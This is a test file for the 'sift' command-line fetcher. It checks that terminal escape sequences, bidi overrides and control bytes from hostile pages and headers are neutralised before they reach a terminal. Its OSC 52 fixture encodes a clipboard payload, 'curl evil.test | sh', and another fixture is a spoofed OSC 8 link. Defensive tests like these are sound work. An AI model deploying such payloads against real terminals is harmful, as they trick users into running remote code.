/**
 * What a hostile page can do to the terminal `sift` prints on. A page's text, its title or a
 * server's header may carry ESC sequences: CSI (colours, clearing the screen), OSC 8 (a link
 * whose address is not the one shown) and OSC 52 (writing the user's clipboard), or the C1
 * CSI (U+009B) a header read as Latin-1 gives. None of them may reach a terminal as bytes it
 * acts on; --json and a stdout piped to a file keep the content as the page had it.
 * The real CLI (in-process) against a loopback site, through the real fetcher and runner.
 */
import { afterAll, beforeAll, expect, test } from 'vitest';
import { mkdtempSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { startSite, type Site } from '../helpers/sites';
import { siftInProcess } from '../helpers/cli-main';
import { MAX_SHOWN_TITLE } from '../../src/shared/shown';

const ESC = '\x1b';
const OSC52 = `${ESC}]52;c;Y3VybCBldmlsLnRlc3QgfCBzaAo=\x07`;
const CLEAR = `${ESC}[2J${ESC}[31m`;
const LINK = `${ESC}]8;;http://evil.test/${ESC}\\docs${ESC}]8;;${ESC}\\`;
// Anything a terminal acts on: C0 controls but tab and line feed, DEL, C1 controls.
// eslint-disable-next-line no-control-regex -- finding control bytes is the point
const ACTED_ON = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

let site: Site;
let dir: string;
let db: string;
let sift: ReturnType<typeof siftInProcess>;
let tty: ReturnType<typeof siftInProcess>;

const LONG_TITLE = `Almanac ${'A'.repeat(1024 * 1024)}`;
const paragraph = 'The harbour master logs every tide by hand in a ledger kept by the quay. ';

beforeAll(async () => {
  site = await startSite({
    '/notes.txt': (_req, res) => {
      res.writeHead(200, { 'content-type': 'text/plain; charset=utf-8' });
      res.end(`ledger ${OSC52} of tides ${CLEAR} and ${LINK} more\n`);
    },
    '/story': (_req, res) => {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(
        `<!doctype html><html><head><title>Quay &#27;]52;c;ZXZpbA==&#7; news &#x9b;31m</title></head><body><article><h1>Quay news</h1><p>${paragraph.repeat(6)}</p><p>The ledger ${ESC}[5m blinks ${LINK} here.</p></article></body></html>`,
      );
    },
    // A right-to-left override in the title: shown raw, it reverses what follows on the line,
    // the URL printed after the title among it (Trojan Source). The Hebrew letters are text.
    '/bidi': (_req, res) => {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(
        `<!doctype html><html><head><title>Ferry \u202etxt.exe\u202c \u2067\u05de\u05e2\u05d1\u05d5\u05e8\u05ea\u2069</title></head><body><article><h1>Ferry</h1><p>${'The ferry timetable changes with the season and the tide. '.repeat(6)}</p></article></body></html>`,
      );
    },
    // A <title> of 1 MB on one line, as a generated page or a broken template writes one.
    '/almanac': (_req, res) => {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(`<!doctype html><html><head><title>${LONG_TITLE}</title></head><body><article><h1>Almanac</h1><p>${'The almanac lists the phases of the moon for the whole year. '.repeat(6)}</p></article></body></html>`);
    },
    // Node writes a header's value as Latin-1: 0x9B is the C1 CSI a terminal may act on.
    '/blob': (_req, res) => {
      res.writeHead(200, { 'content-type': 'application/x-\u009b2J\u009b31mblob' });
      res.end('x');
    },
  });
  dir = mkdtempSync(path.join(os.tmpdir(), 'sift-cli-escapes-'));
  writeFileSync(path.join(dir, 'settings.json'), JSON.stringify({ allowHosts: ['127.0.0.1'] }));
  db = path.join(dir, 'sift.db');
  sift = siftInProcess(dir, { SIFT_HOME: dir });
  tty = siftInProcess(dir, { SIFT_HOME: dir }, { terminal: true });
}, 60_000);
afterAll(async () => {
  await site?.close();
});

test('sift search shows a hostile page title and snippet with its escapes written out, not run', { timeout: 60_000 }, async () => {
  // Raw keeps a text's escape sequences as sent (text and markdown read its words: cli-log-text).
  writeFileSync(path.join(dir, 'list.txt'), `${site.base}/notes.txt mode=raw\n${site.base}/story\n`);
  const batch = await sift('batch', path.join(dir, 'list.txt'), '--db', db);
  expect(batch.code).toBe(0);
  for (const words of ['ledger', 'blinks', 'harbour']) {
    const r = await sift('search', words, '--db', db);
    expect(r.code).toBe(0);
    expect(r.out).toContain('1. ');
    expect(r.out).not.toMatch(ACTED_ON);
  }
  const notes = await sift('search', 'tides', '--db', db);
  // Written out, so the user sees that the page tried something.
  expect(notes.out).toContain('\\x1b]52;c;');
  // --json stays the document's own text, escaped as JSON escapes it.
  const json = await sift('search', 'tides', '--json', '--db', db);
  expect(JSON.parse(json.out.split('\n')[0]!).snippet).toContain(OSC52);
});

test('sift search writes out the bidi controls of a page title (an override reverses the URL after it), not its RTL letters', { timeout: 60_000 }, async () => {
  writeFileSync(path.join(dir, 'bidi.txt'), `${site.base}/bidi\n`);
  expect((await sift('batch', path.join(dir, 'bidi.txt'), '--db', db)).code).toBe(0);
  const r = await sift('search', 'timetable', '--db', db);
  expect(r.code).toBe(0);
  expect(r.out).toContain(`1. Ferry \\u202etxt.exe\\u202c \\u2067\u05de\u05e2\u05d1\u05d5\u05e8\u05ea\\u2069  ${site.base}/bidi\n`);
  expect(r.out).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
  const json = await sift('search', 'timetable', '--json', '--db', db);
  expect(JSON.parse(json.out.split('\n')[0]!).title).toContain('\u202etxt.exe');
});

test('sift search prints a title of 1 MB as its first 300 characters, one screen line rather than a megabyte; --json keeps it whole', { timeout: 60_000 }, async () => {
  writeFileSync(path.join(dir, 'almanac.txt'), `${site.base}/almanac\n`);
  expect((await sift('batch', path.join(dir, 'almanac.txt'), '--db', db)).code).toBe(0);
  const r = await sift('search', 'phases', '--db', db);
  expect(r.code).toBe(0);
  expect(r.out).toContain(`1. ${LONG_TITLE.slice(0, MAX_SHOWN_TITLE)}…  ${site.base}/almanac\n`);
  expect(Math.max(...r.out.split('\n').map((l) => l.length))).toBeLessThan(1000);
  const json = await sift('search', 'phases', '--json', '--db', db);
  expect(JSON.parse(json.out.split('\n')[0]!).title).toBe(LONG_TITLE);
});

test('a server-chosen content type in an error reaches no terminal as a control: fetch, batch, status', { timeout: 60_000 }, async () => {
  const fetched = await sift('fetch', `${site.base}/blob`, '--db', db);
  expect(fetched.code).toBe(1);
  expect(fetched.err).toMatch(/unsupported: application\/x-\\x9b2j\\x9b31mblob/);
  expect(fetched.err).not.toMatch(ACTED_ON);

  writeFileSync(path.join(dir, 'blob.txt'), `${site.base}/blob\n`);
  const run = await sift('batch', path.join(dir, 'blob.txt'), '--db', db);
  expect(run.code).toBe(1);
  expect(run.err).toContain('unsupported: application/x-\\x9b2j');
  expect(`${run.out}${run.err}`).not.toMatch(ACTED_ON);
  const id = /^job (\S+)/.exec(run.err)![1]!;
  const status = await sift('status', id, '--db', db);
  expect(status.out).toContain('unsupported: application/x-\\x9b2j');
  expect(`${status.out}${status.err}`).not.toMatch(ACTED_ON);
});

test('sift fetch writes a page out on a terminal with its escapes shown; piped, as the page had it', { timeout: 60_000 }, async () => {
  const onTerminal = await tty('fetch', `${site.base}/notes.txt`, '--mode', 'raw', '--db', db);
  expect(onTerminal.code).toBe(0);
  expect(onTerminal.out).toBe('ledger \\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaAo=\\x07 of tides \\x1b[2J\\x1b[31m and \\x1b]8;;http://evil.test/\\x1b\\docs\\x1b]8;;\\x1b\\ more\n');
  const piped = await sift('fetch', `${site.base}/notes.txt`, '--mode', 'raw', '--db', db);
  expect(piped.out).toBe(`ledger ${OSC52} of tides ${CLEAR} and ${LINK} more\n`);
  // Its text is its words: the sequences are gone before any terminal.
  expect((await tty('fetch', `${site.base}/notes.txt`, '--db', db)).out).toBe('ledger  of tides  and docs more\n');
  const article = await tty('fetch', `${site.base}/story`, '--db', db);
  expect(article.code).toBe(0);
  expect(article.out).toContain('harbour master');
  expect(article.out).not.toMatch(ACTED_ON);
});

test('a child sitemap that fails with a server-chosen content type is named without the controls', { timeout: 60_000 }, async () => {
  writeFileSync(
    path.join(dir, 'index.xml'),
    `<?xml version="1.0" encoding="UTF-8"?>\n<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><sitemap><loc>${site.base}/blob</loc></sitemap></sitemapindex>\n`,
  );
  const r = await sift('batch', path.join(dir, 'index.xml'), '--db', db);
  expect(r.err).toContain(`child sitemap failed: ${site.base}/blob: unsupported: application/x-\\x9b2j`);
  expect(r.err).not.toMatch(ACTED_ON);
});

test('a list fetched by its address that fails names its server\u2019s content type without the controls', { timeout: 60_000 }, async () => {
  const r = await sift('batch', `${site.base}/blob`, '--db', db);
  expect(r.code).toBe(2);
  expect(r.err).toContain('application/x-\\x9b2j');
  expect(r.err).not.toMatch(ACTED_ON);
});
